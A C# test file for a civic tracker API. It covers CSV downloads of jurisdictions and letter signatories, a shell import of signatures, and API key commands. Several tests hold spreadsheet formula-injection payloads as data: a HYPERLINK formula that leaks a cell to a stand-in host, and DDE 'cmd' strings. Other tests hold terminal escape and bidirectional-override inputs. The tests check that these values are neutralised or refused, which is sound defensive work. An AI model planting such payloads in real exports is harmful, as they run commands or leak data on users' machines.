using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.Configuration;
using Tracker.Api.Csv;
using Tracker.Api.Shell;

namespace Tracker.Api.Tests;

/// <summary>CSV downloads, the shell import of signatures (dry run, apply, malformed files) and the key commands.</summary>
public sealed class CsvTests(MaintainerApi api) : IClassFixture<MaintainerApi>
{
    /// <summary>The server's settings with small import limits, to see chunks and limits on small files.</summary>
    private IConfiguration Small(int chunkRows = 500, int maxRows = 100_000, long maxBytes = 1_000_000) => new ConfigurationBuilder().AddInMemoryCollection(new Dictionary<string, string?>
    {
        ["Tracker:DataFolder"] = api.Factory.DataFolder,
        ["Tracker:Import:ChunkRows"] = chunkRows.ToString(System.Globalization.CultureInfo.InvariantCulture),
        ["Tracker:Import:PauseBetweenChunks"] = "00:00:00",
        ["Tracker:Import:MaxRows"] = maxRows.ToString(System.Globalization.CultureInfo.InvariantCulture),
        ["Tracker:Import:MaxFileBytes"] = maxBytes.ToString(System.Globalization.CultureInfo.InvariantCulture),
    }).Build();

    /// <summary>
    /// A letter of the test's own, with no signatures yet (the seed's letters without signatures were CAMPAIGN
    /// entries, which are events now; a letter of its own also keeps the class's tests from matching each other's rows).
    /// </summary>
    private async Task<string> NewLetterAsync(string slug)
    {
        await api.MutateAsync("createLetter", "letter { id }", new { slug, title = "Import probe " + slug, kind = "SIGN_ON_LETTER", writtenOn = "2011-05-01", sources = new[] { new { source = "mirac-blog" } } });
        return slug;
    }

    private IConfiguration Configuration => new ConfigurationBuilder().AddInMemoryCollection(new Dictionary<string, string?> { ["Tracker:DataFolder"] = api.Factory.DataFolder }).Build();

    [Fact]
    public async Task Jurisdictions_download_with_their_current_status_and_last_change()
    {
        using var client = api.Factory.CreateClient();

        using var response = await client.GetAsync("/csv/jurisdictions.csv");
        var lines = (await response.Content.ReadAsStringAsync()).ReplaceLineEndings("\n").TrimEnd().Split('\n');

        Assert.Equal("text/csv; charset=utf-8", response.Content.Headers.ContentType!.ToString());
        Assert.Equal("Code,Kind,Name,PostalCode,Fips,Parent,Status,StatusSince,DateQualifier,Actor,LastChange", lines[0]);
        var minnesota = lines.Single(l => l.StartsWith("MN,", StringComparison.Ordinal));
        Assert.StartsWith("MN,STATE,Minnesota,MN,27,,REFUSED_TO_JOIN,2011-05-24,EXACT,", minnesota);
        Assert.Equal(await api.WithDbAsync(db => db.Jurisdictions.CountAsync()), lines.Length - 1);
    }

    /// <summary>These two downloads take no filter: a parameter is a 400 naming it, not a whole file that looks filtered.</summary>
    [Theory]
    [InlineData("/csv/jurisdictions.csv?state=ZZ", "state")]
    [InlineData("/csv/jurisdictions.csv?foo=1", "foo")]
    [InlineData("/csv/letters/morton-2011-07-20/signatories.csv?state=MN", "state")]
    [InlineData("/csv/letters/morton-2011-07-20/signatories.csv?x%1B%5B2J=1", "x\\u001B[2J")]
    public async Task A_download_without_filters_refuses_a_parameter(string url, string named)
    {
        using var client = api.Factory.CreateClient();

        using var response = await client.GetAsync(url);

        Assert.Equal(System.Net.HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal($"Unknown parameter \"{named}\": this download takes none.", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task A_letters_signatories_download_in_printed_order_and_an_unknown_letter_is_404()
    {
        using var client = api.Factory.CreateClient();

        var csv = await client.GetStringAsync("/csv/letters/morton-2011-07-20/signatories.csv");
        using var missing = await client.GetAsync("/csv/letters/nope/signatories.csv");

        var lines = csv.ReplaceLineEndings("\n").TrimEnd().Split('\n');
        Assert.Equal("Position,PrintedName,SignatoryKind,Name,Acronym,OrganizationKind,Title,City,State,SignedOn,WithdrawnOn", lines[0]);
        Assert.StartsWith("1,ADC Michigan,ORGANIZATION,", lines[1]);
        Assert.True(lines.Length - 1 >= 213);
        Assert.Equal(System.Net.HttpStatusCode.NotFound, missing.StatusCode);
    }

    /// <summary>Formulas as the issue reported them reaching both downloads (each would run when the file is opened in a spreadsheet).</summary>
    public static readonly string[] Formulas = ["=HYPERLINK(\"http://x/?leak=\"&A1,\"y\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];

    [Fact]
    public async Task Formulas_in_names_printed_names_and_cities_reach_the_signatories_download_as_text()
    {
        var letter = await NewLetterAsync("csv-formulas-letter");
        var rows = Formulas.Select(f => new { printedName = f, city = f }).ToArray();
        await api.MutateAsync("addSignatures", "added", new { letter, signatures = rows });
        using var client = api.Factory.CreateClient();

        var csv = CsvRows.Parse(await client.GetStringAsync($"/csv/letters/{letter}/signatories.csv"));

        foreach (var formula in Formulas)
        {
            var row = Assert.Single(csv, r => r["PrintedName"] == "'" + formula);
            Assert.Equal("'" + formula, row["Name"]);
            Assert.Equal("'" + formula, row["City"]);
        }
        Assert.DoesNotContain(csv.SelectMany(r => r.Values), cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
    }

    [Fact]
    public async Task Formulas_in_jurisdiction_names_actors_and_status_texts_reach_the_jurisdictions_download_as_text()
    {
        for (var i = 0; i < Formulas.Length; i++)
        {
            await api.MutateAsync("createJurisdiction", "jurisdiction { code }", new { code = $"KS-formula{i}", kind = "CITY", name = Formulas[i], parent = "KS" });
            await api.MutateAsync("recordStatusChange", "statusEvent { id }", new
            {
                jurisdiction = $"KS-formula{i}", status = "OPT_OUT_REQUESTED", effectiveOn = "2011-10-01", actor = Formulas[i], description = Formulas[i],
                sources = new[] { new { source = "mirac-blog" } },
            });
        }
        using var client = api.Factory.CreateClient();

        var csv = CsvRows.Parse(await client.GetStringAsync("/csv/jurisdictions.csv"));

        for (var i = 0; i < Formulas.Length; i++)
        {
            var row = Assert.Single(csv, r => r["Code"] == $"KS-formula{i}");
            Assert.Equal("'" + Formulas[i], row["Name"]);
            Assert.Equal("'" + Formulas[i], row["Actor"]);
            Assert.Equal("'" + Formulas[i], row["LastChange"]);
        }
        Assert.DoesNotContain(csv.SelectMany(r => r.Values), cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
    }

    [Fact]
    public async Task Import_dry_run_reports_and_saves_nothing_then_apply_saves_and_audits()
    {
        var file = Path.Combine(api.Factory.DataFolder, "import.csv");
        await File.WriteAllTextAsync(file, """
            printed_name,kind,name,state,signed_on
            Minnesota Immigrant Rights Action Committee,,,,
            "Coalition of the North, Inc.",organization,,MN,2011-05-19
            Sheriff Pat Example,person,Pat Example,MN,
            """);
        var letter = await NewLetterAsync("csv-dry-run-letter");
        var before = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == letter));
        var dryOut = new StringWriter();

        var dry = await ShellCommands.RunAsync(["import", "signatures", "--letter", letter, file, "--dry-run"], Configuration, dryOut, new StringWriter());
        var afterDry = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == letter));
        var applyOut = new StringWriter();
        var applied = await ShellCommands.RunAsync(["import", "signatures", "--letter", letter, file, "--as", "maria"], Configuration, applyOut, new StringWriter());
        var afterApply = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == letter));

        Assert.Equal(0, dry);
        Assert.Contains("row    1  MATCHED", dryOut.ToString());
        Assert.Contains("row    2  CREATED", dryOut.ToString());
        Assert.Contains("Dry run: 3 of 3 rows would be added", dryOut.ToString());
        Assert.Equal(before, afterDry);
        Assert.Equal(0, applied);
        Assert.Equal(before + 3, afterApply);
        Assert.Equal(1, await api.WithDbAsync(db => db.AuditEntries.CountAsync(a => a.Mutation == "importSignatures" && a.KeyName == "maria")));
        Assert.Equal(0, await api.WithDbAsync(db => db.AuditEntries.CountAsync(a => a.KeyName == "shell")));
    }

    /// <summary>"In the future" is the import's clock's: run on 1 July 2011, a row signed on 15 July is refused.</summary>
    [Fact]
    public async Task A_signing_date_after_the_import_clocks_today_is_refused()
    {
        var file = Path.Combine(api.Factory.DataFolder, "future.csv");
        await File.WriteAllTextAsync(file, """
            printed_name,kind,name,state,signed_on
            A Group Signing Later,organization,,MN,2011-07-15
            A Group Signing Earlier,organization,,MN,2011-06-15
            """);
        var letter = await NewLetterAsync("csv-future-letter");
        var output = new StringWriter();
        var clock = new Microsoft.Extensions.Time.Testing.FakeTimeProvider(new DateTimeOffset(2011, 7, 1, 12, 0, 0, TimeSpan.Zero));

        var exit = await ShellCommands.RunAsync(["import", "signatures", "--letter", letter, file, "--dry-run"], Configuration, output, new StringWriter(), clock: clock);

        Assert.Equal(0, exit);
        Assert.Contains("The signing date 2011-07-15 is in the future.", output.ToString());
        Assert.Contains("Dry run: 1 of 2 rows would be added", output.ToString());
    }

    [Fact]
    public async Task A_real_import_names_who_runs_it_with_an_active_key_name()
    {
        var file = Path.Combine(api.Factory.DataFolder, $"who-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(file, "printed_name\nA group imported by nobody in particular\n");
        var before = await api.WithDbAsync(db => db.Signatures.CountAsync());
        var missingError = new StringWriter();
        var unknownError = new StringWriter();
        var revokedError = new StringWriter();

        var missing = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file], Configuration, new StringWriter(), missingError);
        var unknown = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--as", "shell"], Configuration, new StringWriter(), unknownError);
        var revoked = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--as", "former"], Configuration, new StringWriter(), revokedError);

        Assert.Equal(2, missing);
        Assert.Contains("add --as and the name of your API key", missingError.ToString());
        Assert.Equal(1, unknown);
        Assert.Contains("No active API key is named \"shell\"", unknownError.ToString());
        Assert.Equal(1, revoked);
        Assert.Contains("No active API key is named \"former\"", revokedError.ToString());
        Assert.Equal(before, await api.WithDbAsync(db => db.Signatures.CountAsync()));
    }

    [Fact]
    public async Task A_large_import_is_saved_in_chunks_each_audited_numbered_through_the_file()
    {
        var file = Path.Combine(api.Factory.DataFolder, $"chunks-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(file, "printed_name\nChunk Group One\nChunk Group Two\nChunk Group Three\nChunk Group One\nChunk Group Five\n");
        var letter = await NewLetterAsync("csv-chunks-letter");
        var before = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == letter));
        var output = new StringWriter();

        var exit = await ShellCommands.RunAsync(["import", "signatures", "--letter", letter, file, "--as", "tomas"], Small(chunkRows: 2), output, new StringWriter());

        var lines = output.ToString().ReplaceLineEndings("\n").TrimEnd().Split('\n');
        string[] expected = ["row    1  CREATED", "row    2  CREATED", "Saved rows 1-2 of 5.", "row    3  CREATED", "row    4  DUPLICATE", "Saved rows 3-4 of 5.", "row    5  CREATED", "Saved row 5 of 5.", "Added 4 of 5 rows to \"csv-chunks-letter\"."];
        Assert.Equal(0, exit);
        Assert.Equal(expected.Length, lines.Length);
        Assert.All(expected.Zip(lines), pair => Assert.StartsWith(pair.First, pair.Second));
        var positions = await api.WithDbAsync(db => db.Signatures.Where(s => s.Letter.Slug == letter).OrderBy(s => s.Position).Select(s => s.Position).ToListAsync());
        Assert.Equal(Enumerable.Range(1, before + 4), positions);
        var audits = await api.WithDbAsync(db => db.AuditEntries.Where(a => a.Mutation == "importSignatures" && a.KeyName == "tomas").OrderBy(a => a.Id).Select(a => a.Input).ToListAsync());
        Assert.Equal(3, audits.Count);
        Assert.Contains("\"rows\":\"3-4\"", audits[1]);
    }

    [Fact]
    public async Task An_interrupted_import_keeps_the_chunks_it_saved_and_running_it_again_adds_the_rest()
    {
        var file = Path.Combine(api.Factory.DataFolder, $"interrupted-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(file, "printed_name\nInterrupted Group A\nInterrupted Group B\nInterrupted Group C\nInterrupted Group D\nInterrupted Group E\n");
        var letter = await NewLetterAsync("csv-interrupted-letter");
        var before = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == letter));
        using var interrupt = new CancellationTokenSource();
        // Ctrl-C as the first chunk is reported saved.
        var output = new LineHook(line => { if (line.StartsWith("Saved rows 1-2", StringComparison.Ordinal)) { interrupt.Cancel(); } });
        var error = new StringWriter();

        var first = await ShellCommands.RunAsync(["import", "signatures", "--letter", letter, file, "--as", "maria"], Small(chunkRows: 2), output, error, interrupt.Token);
        var afterFirst = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == letter));
        var again = new StringWriter();
        var second = await ShellCommands.RunAsync(["import", "signatures", "--letter", letter, file, "--as", "maria"], Small(chunkRows: 2), again, new StringWriter());
        var printed = await api.WithDbAsync(db => db.Signatures.Where(s => s.Letter.Slug == letter).OrderBy(s => s.Position).Select(s => s.PrintedName).ToListAsync());

        Assert.Equal(1, first);
        Assert.Contains("Interrupted: rows 1-2 were saved (2 added to \"csv-interrupted-letter\"), rows 3-5 were not. Run the same import again", error.ToString());
        Assert.Equal(before + 2, afterFirst);
        Assert.Equal(0, second);
        Assert.Contains("row    1  DUPLICATE", again.ToString());
        Assert.Contains("row    2  DUPLICATE", again.ToString());
        Assert.Contains("Added 3 of 5 rows", again.ToString());
        Assert.Equal(["Interrupted Group A", "Interrupted Group B", "Interrupted Group C", "Interrupted Group D", "Interrupted Group E"], printed.Skip(before));
    }

    [Fact]
    public async Task Line_breaks_and_tabs_in_a_name_are_shown_escaped_so_each_row_stays_one_line_of_the_report()
    {
        var file = Path.Combine(api.Factory.DataFolder, $"layout-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(file, "printed_name\n\"Two\nLines\tGroup\"\nAnother Group Altogether\n");
        var output = new StringWriter();

        var exit = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--dry-run"], Configuration, output, new StringWriter());

        var lines = output.ToString().ReplaceLineEndings("\n").TrimEnd().Split('\n');
        Assert.Equal(0, exit);
        Assert.Equal(3, lines.Length);
        Assert.StartsWith("row    1  CREATED    \"Two\\u000ALines\\u0009Group\"", lines[0]);
        Assert.StartsWith("row    2  CREATED", lines[1]);
    }

    [Fact]
    public async Task Rows_of_one_batch_find_the_signatories_made_by_earlier_rows_as_the_mutation_does()
    {
        // What matching row by row against the database gave, which the batch's in-memory index must give too: a
        // group made by an earlier row is found by its acronym, and a person of the same name gets the next slug.
        var signatures = new object[]
        {
            new { printedName = "Batch Coalition of the North", acronym = "B.C.N." },
            new { printedName = "bcn" },
            new { printedName = "Batch Coalition of the North", kind = "PERSON" },
            new { printedName = "MIRA" },
            new { printedName = "Minnesota Immigrant Rights Action Committee" },
        };
        var file = Path.Combine(api.Factory.DataFolder, $"batch-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(file, "printed_name,kind,acronym\nBatch Coalition of the North,,B.C.N.\nbcn,,\nBatch Coalition of the North,person,\nMIRA,,\nMinnesota Immigrant Rights Action Committee,,\n");
        var output = new StringWriter();

        await ShellCommands.RunAsync(["import", "signatures", "--letter", "no-more-deportations-petition-2011", file, "--dry-run"], Configuration, output, new StringWriter());
        var payload = await api.MutateAsync("addSignatures", "rows { outcome signature { signatory { ... on Organization { slug } ... on Person { slug } } } candidates { ... on Organization { slug } } }",
            new { letter = "no-more-deportations-petition-2011", signatures });

        var rows = payload["rows"]!.AsArray();
        Assert.Equal(["CREATED", "DUPLICATE", "CREATED", "AMBIGUOUS", "MATCHED"], rows.Select(r => (string)r!["outcome"]!));
        Assert.Equal("batch-coalition-of-the-north", (string)rows[0]!["signature"]!["signatory"]!["slug"]!);
        Assert.Equal("batch-coalition-of-the-north-2", (string)rows[2]!["signature"]!["signatory"]!["slug"]!);
        Assert.Equal(["mira-massachusetts", "mira-mississippi"], rows[3]!["candidates"]!.AsArray().Select(c => (string)c!["slug"]!));
        Assert.Equal(
            ["row    1  CREATED    \"Batch Coalition of the North\" -> batch-coalition-of-the-north",
             "row    2  DUPLICATE  \"bcn\"  This signatory already signed the letter. (batch-coalition-of-the-north)",
             "row    3  CREATED    \"Batch Coalition of the North\" -> batch-coalition-of-the-north-2",
             "row    4  AMBIGUOUS  \"MIRA\"  2 signatories match \"MIRA\"; give the exact name. (mira-massachusetts, mira-mississippi)",
             "row    5  MATCHED    \"Minnesota Immigrant Rights Action Committee\" -> mirac"],
            output.ToString().ReplaceLineEndings("\n").Split('\n').Take(5));
    }

    [Theory]
    [InlineData(3, 1_000_000, "the file has more than 3 rows, the most imported at once (Tracker:Import:MaxRows): split it.")]
    [InlineData(100, 40, "bytes; at most 40 are read at once (Tracker:Import:MaxFileBytes): split it.")]
    public async Task A_file_over_the_import_limits_is_refused_whole(int maxRows, long maxBytes, string message)
    {
        var file = Path.Combine(api.Factory.DataFolder, $"large-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(file, "printed_name\nLimit Group 1\nLimit Group 2\nLimit Group 3\nLimit Group 4\n");
        var before = await api.WithDbAsync(db => db.Signatures.CountAsync());
        var error = new StringWriter();

        var exit = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--as", "maria"], Small(maxRows: maxRows, maxBytes: maxBytes), new StringWriter(), error);

        Assert.Equal(1, exit);
        Assert.Contains(message, error.ToString());
        Assert.Equal(before, await api.WithDbAsync(db => db.Signatures.CountAsync()));
    }

    [Theory]
    [InlineData("printed_name,kind\nGood,organization\nBad,robot\n", "line 3: kind \"robot\" is neither organization nor person.")]
    [InlineData("printed_name,signed_on\nGood,2011-13-40\n", "line 2: signed_on \"2011-13-40\" is not a date YYYY-MM-DD.")]
    [InlineData("name,kind\nX,person\n", "line 1: the header has no printed_name column.")]
    [InlineData("printed_name,colour\nX,red\n", "line 1: unknown column \"colour\"")]
    [InlineData("printed_name\n\"unterminated\n", "line 2: malformed CSV near \"unterminated\".")]
    [InlineData("printed_name,kind\n\"two\nlines\",person\n\"x,y\n", "line 4: 1 field, but the header has 2.")]
    [InlineData("printed_name,kind,city\nShort row,organization\n", "line 2: 2 fields, but the header has 3.")]
    [InlineData("printed_name,kind\nLong row,organization,Duluth,MN\n", "line 2: 4 fields, but the header has 2.")]
    [InlineData("printed_name\n\"\u0001\u0002binary\u0003\" junk that goes on and on and on and on and on\n", "line 2: malformed CSV near \"binary \" junk that goes on and on and...\".")]
    [InlineData("printed_name,state,kind, State \nX,MN,person,MN\n", "line 1: the column \"state\" appears 2 times")]
    [InlineData("printed_name\nGood\n\"Evil \u202Egnp.exe\"\n", "line 3: printed_name contains the bidirectional control U+202E")]
    [InlineData("printed_name,city\nGood,\u2067Boston\u2069\n", "line 2: city contains the bidirectional control U+2067")]
    [InlineData("printed_name\n\"\u001B]0;owned\u0007\u001B[2JName\"\n", "line 2: printed_name contains the control character U+001B")]
    [InlineData("printed_name\n\"Name \u009B31m\"\n", "line 2: printed_name contains the control character U+009B")]
    [InlineData("printed_name\nGood\nZero\u200Bwidth\n", "line 3: printed_name contains the zero-width character U+200B; remove it.")]
    [InlineData("printed_name\nComit\uFFFD de Apoyo\n", "line 2: printed_name contains U+FFFD")]
    [InlineData("printed_name\nGood\n\"=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"y\"\")\"\n", "line 3: printed_name starts with \"=\", which spreadsheets run as a formula")]
    [InlineData("printed_name\n+cmd|' /C calc'!A0\n", "line 2: printed_name starts with \"+\"")]
    [InlineData("printed_name\n@SUM(1+1)*cmd|' /C calc'!A0\n", "line 2: printed_name starts with \"@\"")]
    [InlineData("printed_name\n-2+3+cmd|' /C calc'!A0\n", "line 2: printed_name starts with \"-\"")]
    [InlineData("printed_name,city\nGood,\"\t=1+1\"\n", "line 2: city starts with \"=\"")]
    public async Task A_malformed_file_names_its_line_and_imports_nothing(string content, string message)
    {
        var file = Path.Combine(api.Factory.DataFolder, $"bad-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(file, content);
        var before = await api.WithDbAsync(db => db.Signatures.CountAsync());
        var error = new StringWriter();

        var exit = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--as", "maria"], Configuration, new StringWriter(), error);

        Assert.Equal(1, exit);
        Assert.Contains(message, error.ToString());
        Assert.Contains("Nothing was imported.", error.ToString());
        Assert.DoesNotContain(error.ToString(), c => char.IsControl(c) && c is not ('\n' or '\r') || TerminalText.IsBidiControl(c));
        Assert.Equal(before, await api.WithDbAsync(db => db.Signatures.CountAsync()));
    }

    [Fact]
    public async Task A_file_that_is_not_utf8_is_refused_at_the_line_of_its_first_foreign_byte()
    {
        var file = Path.Combine(api.Factory.DataFolder, $"latin1-{Guid.NewGuid():N}.csv");
        // "Comité de Apoyo" as Latin-1 writes it: é is the single byte 0xE9.
        await File.WriteAllBytesAsync(file, [.. "printed_name\nCentro Presente\nComit"u8, 0xE9, .. " de Apoyo\n"u8]);
        var before = await api.WithDbAsync(db => db.Signatures.CountAsync());
        var error = new StringWriter();

        var exit = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--dry-run"], Configuration, new StringWriter(), error);

        Assert.Equal(1, exit);
        Assert.Contains("line 3: the byte 0xE9 is not UTF-8 (was the file saved as Latin-1 or Windows-1252?); save it as UTF-8. Nothing was imported.", error.ToString());
        Assert.Equal(before, await api.WithDbAsync(db => db.Signatures.CountAsync()));
    }

    [Fact]
    public async Task A_utf8_file_with_a_byte_order_mark_is_read()
    {
        var file = Path.Combine(api.Factory.DataFolder, $"bom-{Guid.NewGuid():N}.csv");
        await File.WriteAllBytesAsync(file, [.. "\uFEFFprinted_name,city\nComité de Apoyo Nuevo,Austin\n"u8]);
        var output = new StringWriter();

        var exit = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--dry-run"], Configuration, output, new StringWriter());

        Assert.Equal(0, exit);
        Assert.Contains("row    1  CREATED    \"Comité de Apoyo Nuevo\" -> comite-de-apoyo-nuevo", output.ToString());
    }

    [Fact]
    public async Task The_readme_import_example_prints_what_readme_says()
    {
        var readme = (await File.ReadAllTextAsync(Paths.Readme)).ReplaceLineEndings("\n");
        var csvStart = readme.IndexOf("cat > new-signers.csv <<'CSV'\n", StringComparison.Ordinal) + "cat > new-signers.csv <<'CSV'\n".Length;
        var csv = readme[csvStart..readme.IndexOf("\nCSV\n", csvStart, StringComparison.Ordinal)];
        var promised = readme[csvStart..].Split('\n').SkipWhile(l => !l.StartsWith("# row", StringComparison.Ordinal))
            .TakeWhile(l => l.StartsWith("# ", StringComparison.Ordinal)).Select(l => l[2..]).ToList();
        var file = Path.Combine(api.Factory.DataFolder, "new-signers.csv");
        await File.WriteAllTextAsync(file, csv + "\n");
        var output = new StringWriter();

        var exit = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--dry-run"], Configuration, output, new StringWriter());

        Assert.Equal(0, exit);
        Assert.Equal(5, promised.Count);
        Assert.Equal(promised, output.ToString().ReplaceLineEndings("\n").TrimEnd().Split('\n'));
    }

    [Fact]
    public void Shell_commands_hand_the_host_only_the_servers_settings()
    {
        string[] args = ["import", "signatures", "--letter", "x", "--dry-run", "--Tracker:DataFolder", "/data", "f.csv", "--ConnectionStrings:Tracker=Host=db", "--urls=http://*:1"];

        Assert.Equal(["--Tracker:DataFolder", "/data", "--ConnectionStrings:Tracker=Host=db", "--urls=http://*:1"], ShellCommandLine.SettingsOnly(args));
    }

    [Theory]
    [InlineData("--dryrun")]
    [InlineData("--dry-run", "--force")]
    public async Task An_unknown_option_is_refused_before_anything_is_read(params string[] options)
    {
        var file = Path.Combine(api.Factory.DataFolder, $"fine-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(file, "printed_name\nA group nobody has heard of\n");
        var before = await api.WithDbAsync(db => db.Signatures.CountAsync());
        var error = new StringWriter();

        var exit = await ShellCommands.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, .. options], Configuration, new StringWriter(), error);

        Assert.Equal(2, exit);
        Assert.Contains($"unknown option \"{options[^1]}\"", error.ToString());
        Assert.Equal(before, await api.WithDbAsync(db => db.Signatures.CountAsync()));
    }

    [Fact]
    public async Task Key_commands_create_list_and_revoke()
    {
        var created = new StringWriter();
        var exit = await ShellCommands.RunAsync(["keys", "create", "--name", "shell-made", "--role", "maintainer"], Configuration, created, new StringWriter());
        var secret = created.ToString().Trim().Split('\n')[^1].Trim();
        var works = await api.SendAsync(secret, "{ auditLog { totalCount } }");
        var listed = new StringWriter();
        await ShellCommands.RunAsync(["keys", "list"], Configuration, listed, new StringWriter());
        var revoke = await ShellCommands.RunAsync(["keys", "revoke", "--name", "shell-made"], Configuration, new StringWriter(), new StringWriter());
        var refused = await api.SendAsync(secret, "{ auditLog { totalCount } }");
        var unknown = await ShellCommands.RunAsync(["keys", "revoke", "--name", "nobody"], Configuration, new StringWriter(), new StringWriter());
        var usage = await ShellCommands.RunAsync(["keys", "create", "--name", "x", "--role", "superuser"], Configuration, new StringWriter(), new StringWriter());

        Assert.Equal(0, exit);
        Assert.Null(works["errors"]);
        Assert.Contains("shell-made", listed.ToString());
        Assert.DoesNotContain(secret, listed.ToString());
        Assert.Equal(0, revoke);
        Assert.Equal("UNAUTHENTICATED", (string)refused["errors"]![0]!["extensions"]!["code"]!);
        Assert.Equal(1, unknown);
        Assert.Equal(2, usage);
    }
}
